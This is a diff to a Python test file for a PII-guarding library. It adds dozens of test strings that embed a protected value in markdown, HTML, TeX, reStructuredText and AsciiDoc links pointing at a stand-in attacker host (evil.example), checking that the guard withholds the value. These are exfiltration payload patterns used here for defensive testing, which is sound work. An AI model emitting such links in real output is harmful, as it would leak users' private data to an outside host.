@@ -9,6 +9,8 @@ import pytest
 from guardstream import Guard
 from guardstream.policy import Policy
 from guardstream.vault import Vault
+from guardstream.vault.addresses.judging import in_address
+from guardstream.vault.surroundings import Surroundings
 
 GUARD = Guard(Policy.parse("input: {extends: guardstream/pii-en}"))
 VALUE = "mia.wolf@example.org"
@@ -52,7 +54,10 @@ STAYS = {
     "what a mail says": "[x](mailto:eve@evil.example?body={})",
     "what a mail says, with spaces": '<a href="mailto:eve@evil.example?body=as said {}">',
     "what a mail says, with entities": "<a href='mailto:eve@evil.example&#63;body={}'>",
+    "mailto later in a value without quotes": "<img src= /\\[2001:db8::1]/?x=mailto:{}>",
     "a host after slashes": "url('//{}.evil.example/x')",
+    "an IPv6 address": "![x](a.png){{: src=//[2001:db8::1]/{}}}",
+    "a user before a host": "![x](a.png){{: src=//!@evil/{}}}",
     "a share of a network": "\\\\evil.example\\a{}",
     "quotes in an address": 'https://evil.example/?q="{}"',
     "an apostrophe in an address": "https://evil.example/?q='{}'",
@@ -96,6 +101,20 @@ STAYS = {
     "code of HTML in an address": "<https://evil.example/<CODE>a {}</CODE>>",
     "an address in angle brackets, with spaces": "<https://evil.example/?q=as said {}>",
     "an address in angle brackets, over lines": "(<FTP://evil.example/a\nb \\> {}",
+    "code in a target": "![x](https://evil.example/?q= `)` {})",
+    "code in angle brackets in a target": "![x](<https://evil.example/?q= `>)` {}>)",
+    "a target in code": "![x](``https://evil.example/?q=)`` {})",
+    "slashes in code": "![x](/`/evil.example/)` {})",
+    "code in a string in a target": "![x](https://evil.example/?q='`')` {})",
+    "the text of a link in a target": "![x](https://evil.example/?q= [)](a) {})",
+    "a target in the text of a link": "![x]([https://evil.example/?q=)](a) {})",
+    "a link in angle brackets in a target": "![x](https://evil.example/?q= [y](<)>) {})",
+    "the title of a link in a target": "![x](https://evil.example/?q= [y](a ')') {})",
+    "a link in a string in a target": "![x](https://evil.example/?q=' [y ')'][r] {})",
+    "a link in parentheses in a target": "![x](https://evil.example/?q=([)](a)) {})",
+    "code in angle brackets": "<https://evil.example/?q= `>` {}>",
+    "the text of a link in angle brackets": "<https://evil.example/?q= [>](a) {}>",
+    "a link in angle brackets": "<https://evil.example/?q= [a](<b>) {}>",
     "an escaped parenthesis in a target": "![x](https://evil.example/?q=\\) {})",
     "an escaped parenthesis in another": "![x](https://evil.example/(\\)\\) {})",
     "an attribute in braces": '![x](a.png){{src="//evil.example/?q= {}"}}',
@@ -103,6 +122,11 @@ STAYS = {
     "a background in braces": '| x {{: background="//evil.example/?q= {}" }} | y |',
     "a source of any element": '<x-y src="//evil.example/ {}">',
     "a definition with spaces": "![x][a b]\n\n [a b]: //evil.example/?q= {}",
+    "a definition with a tag": "[a]: https://evil.example/<b>{}",
+    "a definition with a tag in a quotation": "> [a]:\n> https://evil.example/<b>{}",
+    "a definition in angle brackets with a tag": "[a]: <https://evil.example/</b>{}>",
+    "entities in a definition with spaces": "[a]: https&#58;//evil&#46;example/ {}",
+    "parentheses in a title": "![x](//evil.example/?q='a (b \"c\"){} 'd')",
     "a definition over two lines": "![x][a]\n\n[a]:\n  https://evil.example/a as said {}",
     "a host of a sign": "\U0001f600.example/?q={}",
     "a letter with an accent before a host": "{}é.evil.example/x",
@@ -121,6 +145,10 @@ STAYS = {
     "a group of TeX after a comment": "\\href % a {{\n {{https://evil.example/? {}}}{{x}}",
     "a group of TeX after an escape of JSON": "\\\\href\\n{{https://evil.example/? {}}}{{x}}",
     "a comment in options of TeX": "\\includegraphics[width=1%]b\n]{{https://evil.example/ {}}}",
+    "a group in options of TeX": "\\includegraphics[alt=\\text{{a}}b]{{//evil.example/ {}}}",
+    "options of TeX that are not simple": "\\includegraphics[a[{{b}}]{{//evil.example/ {}}}",
+    "a group in a comment": "\\href % a {{}}\n {{//evil.example/? {}}}{{x}}",
+    "an escaped brace before it in TeX": "\\href{{//evil.example/? \\{{{}}}{{x}}",
     "spaces before options of TeX": "\\bbox \n [background:url(//evil.example/\\20 {})]{{x}}",
     "options with a style of TeX": "$\\bbox[background:url(//evil.example/{{}}\\20 {})]{{x}}$",
     "a string of Vega-Lite": '{{"data": {{"url": "https://evil.example/?q= {}"}}}}',
@@ -139,7 +167,19 @@ STAYS = {
     "a substitution of reStructuredText": ".. |a b| image:: https://evil.example/?q= {}",
     "a target of reStructuredText": ".. _a: https://evil.example/?q= {}",
     "a link of reStructuredText": "`a <//evil.example/?q= {}>`_",
+    "a link of reStructuredText with spaces": "`a\n<ht tps: /\n /evil.example/?q= {}>`_",
     "an image of MyST": "```{{image}} https://evil.example/?q= {}",
+    "an image of reStructuredText after a tab": "..\timage:: https://evil.example/?q= {}",
+    "a substitution over lines": ".. |a|\n   image:: https://evil.example/?q= {}",
+    "a target after spaces": "..   _a: https://evil.example/?q= {}",
+    "a target without a name": "text\n\n  __ ht tps: /\n    /evil.example/?q= {}",
+    "a table of reStructuredText": ".. csv-table:: a\n   :url: https://evil.example/?q= {}",
+    "a poster in AsciiDoc": "video::a.mp4[width=1, poster = https://evil.example/?q= {}]",
+    "the first attribute of a video": "video::a.mp4[https://evil.example/?q= {}]",
+    "a fallback in AsciiDoc": "image::a.svg[opts=interactive,fallback=//evil.example/?q= {}]",
+    "an image that passes": "image:pass:q[https://evil.example/?q= {}][x]",
+    "an image in dollars": "image::$$https://evil.example/?q= {}$$[x]",
+    "an inclusion of AsciiDoc": "include::https://evil.example/?q= {}[]",
     "an image of AsciiDoc": "image::https://evil.example/?q=a {}[]",
     "an image of AsciiDoc in a line": "x image:https://evil.example/?q=a {}[] y",
     "an attribute of AsciiDoc": ":u: https://evil.example/\n\nimage::{{u}}?q=a {}[]",
@@ -160,6 +200,7 @@ STAYS = {
     ),
     "a background of Marp": "<!-- backgroundImage: url( https://evil.example/\\)\\20 {}) -->",
     "a long value": '<img src="//evil.example/?' + "a b=c " * 3_000 + '{}">',
+    "a scheme and a line": '<x-y data-background="ftp:/\n/evil.example/? {}">',
     "tags without end": "<a " * 5_000 + 'href="//evil.example/? {}',
 }
 
@@ -184,11 +225,17 @@ COMES = {
     "in angle brackets after a word": "write to:<{}>",
     "after a long value": '<img src="' + "a b=c " * 3_000 + '"> {}',
     "after a target": '[x](https://example.com/a_(b)) {} [y](https://example.com "(it\'s)") {}',
+    "after parentheses in a title": '[x](https://example.com "a (b)") {}',
+    "after code in parentheses": "[x](see `a/b`) {} [y](`a)`) {}",
+    "after brackets in a target": "[x](https://example.com/a[b](c)) {}",
+    "after brackets in angle brackets": "<https://example.com/[a](b)> {}",
+    "after brackets in parentheses": "[x]([a] / [b]) {}",
     "a paragraph after a target": "[x](https://example.com/it's\n \n{}",
     "words in parentheses": "[1](see {}) [2](mailto:{})",
     "a reference and beside entities": "[1]: {}, [2]: a&amp;{}, a\\_b:{}",
     "alternatives": "and/or {}, really?{}",
     "a definition without an address": "[1]: see {} and {}\n[2]: mailto:{} or {}",
+    "a definition with a tag and no address": "[1]: <b>{}</b>",
     "a line after a definition": "[1]: https://example.com/a\n{} and {}",
     "after an attribute in braces": '![x](a.png){{src="b.png"}} {}',
     "a paragraph after an angle bracket": "<https://example.com/a b\n\n{}",
@@ -219,16 +266,22 @@ COMES = {
     "a paragraph after a directive": ".. image:: a.png\n   :alt: b\n\n{}",
     "in another directive": ".. note:: {}",
     "after an image of AsciiDoc": "image:https://example.com/a[] {}",
+    "after a comparison in code": "`if a <b:` {}, `a <b/c> d` {}",
+    "lines to fill in": "__ yes, __ no: {}\n__ see a/b, {}",
+    "after attributes of AsciiDoc": "video::a.mp4[poster=https://example.com/a,width=1] {}",
+    "an attribute of a log": "ts=1 link=https://example.com/a, mail={}",
     "names with colons": "image::io, video::codec and image:latest {}",
     "a hash table": "New-Item @{{mail='{}'}}",
     "after a shape of Mermaid": 'A@{{ shape: rect, label: "}}" }} --> {}',
     "text of a slide": '<section data-background="https://example.com/a.png">{}</section>',
     "after a group of TeX": "\\href{{https://example.com/a b}}{{{}}} and {{{}}}",
     "a mail link of TeX": "\\href{{mailto:{}}}{{x}}, \\url{{ {} }}",
+    "a path that is like a command of TeX": "src\\style\\{{a}} {} {{'a': '{}'}}",
     "beside a command of TeX": "\\urlstyle{{same {}}}, with \\url for {}",
     "a group after the name of a command": "use `\\url`:\n\n{{'a': '{}'}}, a \\style, {{{}}}",
     "after options of TeX": "$\\bbox[red, 2px]{{x}}$ {}, `\\bbox` {} \\bbox{{{}}}",
     "in options of TeX": "\\includegraphics[width=1em, alt={}]{{a}} {{{}}}",
+    "a slash after a name in quotes": "\"Name:/ {}\", 'and/or:/ {}'",
     "before a date": "于2024.05.01请{}于2024.05.01",
     "before a file": "{}在main.test.ts",
 }
@@ -301,3 +354,24 @@ def test_a_string_of_json_that_begins_with_an_address_gets_no_value(
     wanted = text.replace("{}", left, 1).replace("{}", VALUE)
     for chunks in ([said], list(said)):
         assert guard.wrap_sync(chunks, vault=vault).text() == wanted
+
+
+CUT = {
+    "overlapping openings": "{" * 200 + "https://e.example/ a",
+    "the longest opening": f"[url={'a' * 60}]{' ' * 8}&#x0000002f;&#x0000002f;{'a' * 63}. b",
+    "an address that could be longer": "[img]&#x2f;&#47;e.example&lt;a:/",
+    "a tag where a target could be": "[1]: <image a",
+    "a directive that could be a macro": ".. image::https://e.example[] a",
+}
+
+
+@pytest.mark.parametrize("text", CUT.values(), ids=CUT)
+def test_an_opening_is_found_wherever_the_text_was_cut(text: str) -> None:
+    found = set()
+    for cut in range(len(text)):
+        surroundings = Surroundings()
+        surroundings.add(text)
+        surroundings.around(cut)
+        found.add(surroundings.around(len(text) - 1))
+    assert len(found) == 1
+    assert in_address(*found)
